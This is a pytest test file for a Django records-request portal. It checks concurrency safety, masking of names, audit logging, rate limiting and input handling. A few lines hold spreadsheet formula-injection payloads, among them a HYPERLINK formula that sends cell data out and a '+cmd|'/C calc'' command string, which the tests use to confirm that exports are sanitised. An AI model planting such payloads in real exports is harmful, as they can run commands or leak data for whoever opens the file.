"""What somebody may try who means ill, or two who mean well at once: nothing is shown, lost or written over that must not be."""

from __future__ import annotations

import io
from datetime import date

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from applications_cast import ANSWERS, checked
from disclosure.errors import CaseError
from disclosure.records import Confirmed, Replied
from portal.applicants.services import keep
from portal.applications import services
from portal.applications.beside import handing
from portal.applications.fees import services as fees
from portal.applications.letters import Additions, drafts
from portal.applications.letters.signing import sign
from portal.applications.models import Application, ColumnNames, Letter
from portal.asked import harmless
from portal.audit.models import Entry

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://example.org/"&A1)'


@pytest.fixture
def case(town, as_of):
    as_of(date(2024, 9, 10))
    made = services.submit(town, ANSWERS | {"asked": EVIL, "contact_person": "林小雨", "agent": "方大同"}).application
    services.record(made, Confirmed(date(2024, 9, 10)), None)
    return made


# Two windows, one letter


def _draft(case, clerk):
    checked(case, clerk, "refused.internal_affairs")
    refused = Replied(date(2024, 9, 10), "refused.internal_affairs", "refused")
    return drafts.draft(case, "reply", refused, Additions(reason="属于人事管理"), clerk)


@pytest.mark.parametrize("act", ["save", "accept", "send", "return", "discard"])
def test_what_is_open_in_another_window_does_not_write_over_a_signed_letter(act, case, clerk, leader):
    open_elsewhere = _draft(case, clerk)
    draft = Letter.objects.get(pk=open_elsewhere.pk)
    shown = drafts.shown(draft)
    assert not shown.missing, [str(each) for each in shown.missing]
    signed = sign(draft, leader, shown.digest, leader=True)
    acts = {
        "save": lambda: drafts.save_edits(open_elsewhere, {"body": "改掉"}, clerk),
        "accept": lambda: drafts.accept(open_elsewhere),
        "send": lambda: drafts.send(open_elsewhere, clerk), "return": lambda: drafts.give_back(open_elsewhere, "不行", leader),
        "discard": lambda: drafts.discard(open_elsewhere, clerk),
    }  # fmt: skip
    with pytest.raises(CaseError):
        acts[act]()
    now = Letter.objects.get(pk=signed.pk)
    assert (now.state, now.content, now.document_number) == ("signed", signed.content, signed.document_number)


def test_a_draft_thrown_away_in_another_window_is_said_so(case, clerk, signed_in):
    draft = _draft(case, clerk)
    url = reverse("applications:letter_page", args=[case.agency.slug, case.pk, draft.pk])
    drafts.discard(Letter.objects.get(pk=draft.pk), clerk)
    with pytest.raises(CaseError):
        sign(draft, clerk, "", leader=False)
    assert signed_in(clerk).post(url, {"act": "send"}).status_code == 404


def test_money_is_entered_and_given_back_once_from_two_windows(case, clerk):
    fee = fees.decide(case, fees.Standard.BY_PAGE, 50, clerk, pay_how="银行转账")
    fees.noticed_on_paper(fee, "青收〔2024〕1号", date(2024, 9, 10), clerk)
    fees.notice_received(fee, date(2024, 9, 10), clerk)
    first, second = (type(fee).objects.get(pk=fee.pk) for _window in range(2))
    assert (first.received, second.received) == (0, 0)
    paid = fees.paid(first, date(2024, 9, 10), fee.amount, "票1", clerk)
    with pytest.raises(CaseError):
        fees.paid(second, date(2024, 9, 10), fee.amount, "票1", clerk)
    fees.give_back(first, date(2024, 9, 10), fee.amount, "退1", "多收", clerk)
    with pytest.raises(CaseError):
        fees.give_back(second, date(2024, 9, 10), fee.amount, "退1", "多收", clerk)
    fees.take_back_payment(paid, "记错了", clerk)
    with pytest.raises(CaseError):
        fees.take_back_payment(paid, "记错了", clerk)


# Names, files, tables


def test_names_of_people_are_masked_until_shown_for_a_reason(case, clerk, signed_in):
    office, page = signed_in(clerk), reverse("applications:case", args=[case.agency.slug, case.pk])
    shown = office.get(page).content.decode()
    assert [name for name in (ANSWERS["name"], "林小雨", "方大同") if name in shown] == []
    assert "陈**" in shown
    url = reverse("applications:reveal", args=[case.agency.slug, case.pk])
    revealed = office.post(url, {"field": "name", "asked": "1", "reason": "identity"}).content.decode()
    assert ANSWERS["name"] in revealed
    assert "方大同" not in revealed
    Application.objects.filter(pk=case.pk).update(applicant_kind="legal_person.commercial_enterprise")
    assert ANSWERS["name"] in office.get(page).content.decode(), "the name of an organisation is no secret"


def test_who_opened_what_an_applicant_sent_in_stands_in_the_log(case, clerk, signed_in):
    sent = services.attach(case, "身份证.jpg", b"\xff\xd8\xff", None, kind="identity")
    signed_in(clerk).get(reverse("applications:attachment", args=[case.agency.slug, case.pk, sent.pk]))
    entry = Entry.objects.get(action="application.file_opened")
    assert (entry.person, entry.facts) == (clerk, {"file": sent.pk, "kind": "identity"})


def test_no_cell_that_goes_out_is_a_formula(case, clerk, signed_in):
    for heading, field in (("=1+1", "asked"), ("姓名", "name")):
        ColumnNames.objects.create(agency=case.agency, heading=heading, field=field)
    sheet = load_workbook(io.BytesIO(handing.as_workbook(case.agency, [case]))).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value]
    assert EVIL in [cell.value for cell in cells]
    assert {cell.data_type for cell in cells} == {"s"}
    lines = handing.as_tabs(case.agency, [case]).split("\r\n")
    assert [cell[0] for line in lines for cell in line.split("\t") if cell] == ["'", "姓", "'", "陈"]
    office, slug = signed_in(clerk), case.agency.slug
    answer = office.get(reverse("applications:list", args=[slug]), {"format": "xlsx", "show": "all"})
    saved = load_workbook(io.BytesIO(answer.content)).active
    assert "f" not in {cell.data_type for row in saved.iter_rows() for cell in row}


@pytest.mark.parametrize(
    ("written", "out"),
    [("=1+1", "'=1+1"), ("+cmd|'/C calc'!A0", "'+cmd|'/C calc'!A0"), ("@SUM(A1)", "'@SUM(A1)"), (" -2+3", "' -2+3"),
     ("+86 139 0000 0000", "+86 139 0000 0000"), ("-3", "-3"), ("——", "——"), ("-", "-"), ("", ""), ("标准=1", "标准=1")],
)  # fmt: skip
def test_what_is_pasted_computes_nothing(written, out):
    assert harmless(written) == out


# From outside


def test_blanks_around_a_number_get_nobody_more_guesses(case, client):
    url = reverse("site:withdraw", args=[case.agency.slug])
    tries = [client.post(url, {"number": " " * place + case.receipt_number, "secret": "WRONGWRONG"}) for place in range(7)]
    assert "15分钟" in client.post(url, {"number": case.receipt_number, "secret": "WRONGWRONG"}, follow=True).content.decode()
    assert {each.status_code for each in tries} <= {302, 422, 429}


def test_odd_numbers_are_not_found_and_break_nothing(case, client):
    for name in ("withdraw", "correct", "rate", "keep", "let_go", "follow"):
        url = reverse(f"site:{name}", args=[case.agency.slug])
        for number in ("\x00", "2024\x000908-001", "9" * 5000):
            assert client.post(url, {"number": number, "secret": "A"}).status_code < 500, (name, number[:9])


def test_taking_an_application_out_of_an_account_is_no_way_to_guess(case, client, django_user_model):
    owner = django_user_model.objects.create_user("applicant-1", "a@example.org", is_public=True)
    stranger = django_user_model.objects.create_user("applicant-2", "b@example.org", is_public=True)
    keep(owner, case)
    url = reverse("site:let_go", args=[case.agency.slug])
    client.force_login(stranger, backend="django.contrib.auth.backends.ModelBackend")
    for _try in range(8):
        assert client.post(url, {"number": case.receipt_number, "secret": "WRONGWRONG"}).status_code == 302
    assert case.owners.count() == 1
    client.force_login(owner, backend="django.contrib.auth.backends.ModelBackend")
    client.post(url, {"number": case.receipt_number})
    assert case.owners.count() == 0


@pytest.mark.parametrize("year", ["9" * 5000, "²", "-1", "٢٠٢٤"])
def test_an_odd_year_of_a_ledger_is_this_year(case, clerk, signed_in, year):
    for name in ("ledger", "fees"):
        assert signed_in(clerk).get(reverse(f"applications:{name}", args=[case.agency.slug]), {"year": year}).status_code == 200


def test_what_a_form_does_not_ask_is_not_taken_in(town, client, as_of):
    as_of(date(2024, 9, 10))
    steps = {
        "who": {"applicant_kind": "natural_person"},
        "name": {key: ANSWERS[key] for key in ("name", "identity_kind", "identity_number")},
        "contact": {key: ANSWERS[key] for key in ("phone", "email", "address")}, "what": {"asked": "标准"},
        "how": {"form_wanted": "electronic", "way_wanted": "email"},
    }  # fmt: skip
    more = {"status": "delivered", "due_on": "2030-01-01", "agency": "99", "receipt_number": "1", "is_staff": "1",
            "created_by": "1", "other_number": "X", "help_given": "有", "outcome": "granted",
            "arrived_on": "2000-01-01", "channel": "post"}  # fmt: skip
    for step, said in steps.items():
        client.post(reverse("site:apply_step", args=[town.slug, step]), said | more)
    token = client.get(reverse("site:apply_step", args=[town.slug, "review"])).context["form_token"]
    client.post(reverse("site:apply_send", args=[town.slug]), {"form_token": token} | more)
    made = Application.objects.get()
    assert (made.agency, made.channel, made.arrived_on, made.created_by) == (town, "online", date(2024, 9, 10), None)
    assert (made.other_number, made.help_given, made.outcome) == ("", "", "")
    assert made.status == "unconfirmed"
